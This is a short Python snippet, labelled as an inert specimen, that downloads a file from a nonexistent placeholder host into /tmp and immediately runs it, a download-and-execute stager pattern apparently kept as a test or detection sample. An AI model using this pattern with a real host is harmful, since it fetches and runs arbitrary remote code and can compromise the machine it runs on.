# Inert specimen: the host does not exist.
import subprocess
import urllib.request

urllib.request.urlretrieve("https://garden-seeds.invalid/stage", "/tmp/inert-specimen")
subprocess.Popen(["/tmp/inert-specimen"])
